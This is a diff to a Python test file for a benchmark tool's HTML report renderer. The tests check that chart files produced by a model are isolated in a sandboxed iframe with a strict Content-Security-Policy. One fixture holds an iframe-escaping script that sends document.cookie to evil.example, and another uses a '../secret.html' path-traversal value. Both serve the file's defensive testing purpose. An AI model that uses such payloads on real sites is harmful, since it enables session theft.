@@ -7,6 +7,7 @@ import html
 import re
 import subprocess
 import sys
+import urllib.parse
 from pathlib import Path
 from typing import Any
 
@@ -18,6 +19,7 @@ from bench_cli.html import (
     installed_prompts,
     render_compare_html,
     render_run_html,
+    write_run_html,
 )
 from bench_cli.html._page import script_json
 from bench_cli.html._run_report import MESSAGE_LIMIT
@@ -28,6 +30,7 @@ from .html_fixtures import (
     HOSTILE,
     HOSTILE_DOMAIN,
     HOSTILE_MODEL,
+    RUN_STEM,
     comparison,
     csp_hash,
     embedded_data,
@@ -235,17 +238,65 @@ def test_screenshots_are_embedded_once_each_as_data_uris(
     assert items["C_H01_Q1"]["image"] is not None
     assert items["C_H01_Q2"]["image"] is None  # not a PNG
     assert items["C_H01_Q3"]["image"] is None  # none beside it
-    assert items["C_E01_Q1"]["chart_href"] == f"{CHARTS_DIR}/C_E01_Q1.html"
+    assert items["C_E01_Q1"]["chart_href"] == f"{RUN_STEM}.report_sandboxed/C_E01_Q1.html"
 
 
 def test_chart_links_are_relative_to_where_the_page_is_written(tmp_path: Path) -> None:
     run, path = hostile_run(tmp_path / "results")
     elsewhere = tmp_path / "reports" / "my report.html"
     elsewhere.parent.mkdir()
-    page = render_run_html(hostile_report(run), run, path, None, html_path=elsewhere)
+    write_run_html(hostile_report(run), run, path, elsewhere, [])
+    page = elsewhere.read_text(encoding="utf-8")
     items = {i["key"]: i for i in embedded_data(page)["items"]}
-    assert items["C_E01_Q1"]["chart_href"] == f"../results/{CHARTS_DIR}/C_E01_Q1.html"
-    assert (elsewhere.parent / "../results" / CHARTS_DIR / "C_E01_Q1.html").exists()
+    assert items["C_E01_Q1"]["chart_href"] == "my%20report_sandboxed/C_E01_Q1.html"
+    assert (elsewhere.parent / "my report_sandboxed" / "C_E01_Q1.html").exists()
+
+
+def test_the_chart_link_opens_a_sandboxed_wrapper_not_the_models_file(tmp_path: Path) -> None:
+    run, path = hostile_run(tmp_path / "results")
+    html_path = html_report_path(path)
+    chart = tmp_path / "results" / CHARTS_DIR / "C_E01_Q1.html"
+    hostile_chart = (
+        '<svg><text>"quoted"</text></svg></iframe><script>fetch("https://evil.example/?"'
+        "+document.cookie)</script>"
+    )
+    chart.write_text(hostile_chart)
+    write_run_html(hostile_report(run), run, path, html_path, [])
+    items = {i["key"]: i for i in embedded_data(html_path.read_text(encoding="utf-8"))["items"]}
+    href = items["C_E01_Q1"]["chart_href"]
+    assert CHARTS_DIR not in href  # never the model's file itself
+    wrapper = html_path.parent / urllib.parse.unquote(href)
+    page = wrapper.read_text(encoding="utf-8")
+    # One frame, sandboxed to scripts only: no same origin, no pop-ups, forms or top navigation.
+    (frame,) = re.findall(r"<iframe\b[^>]*>", page)
+    assert frame.startswith('<iframe sandbox="allow-scripts" ')
+    assert "allow-same-origin" not in page
+    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
+    assert csp is not None
+    directives = {
+        part.split()[0]: part.split()[1:] for part in csp.group(1).split(";") if part.strip()
+    }
+    assert directives["default-src"] == ["'none'"]
+    assert directives["script-src"] == ["'unsafe-inline'"]
+    assert "connect-src" not in directives  # so 'none', as default-src
+    assert "frame-src" not in directives
+    assert not any("http" in source for sources in directives.values() for source in sources)
+    # The model's document is only ever an attribute's escaped text: it cannot close the frame.
+    srcdoc = re.search(r'srcdoc="([^"]*)"', page)
+    assert srcdoc is not None
+    assert html.unescape(srcdoc.group(1)) == hostile_chart
+    assert "<script" not in page.replace(srcdoc.group(0), "")
+    assert "</iframe>" not in srcdoc.group(1)
+
+
+def test_a_chart_outside_the_run_folder_gets_no_wrapper(tmp_path: Path) -> None:
+    run, path = hostile_run(tmp_path / "results")
+    (tmp_path / "secret.html").write_text("secret")
+    results = [item("C_E01", 1, 100.0, chart_file="../secret.html")]
+    run = Run(path=str(path), header=run.header, results=results, judges=[])
+    html_path = html_report_path(path)
+    write_run_html(hostile_report(run), run, path, html_path, [])
+    assert not (tmp_path / "results" / f"{RUN_STEM}.report_sandboxed").exists()
 
 
 def test_a_chart_file_outside_the_run_folder_is_neither_linked_nor_embedded(
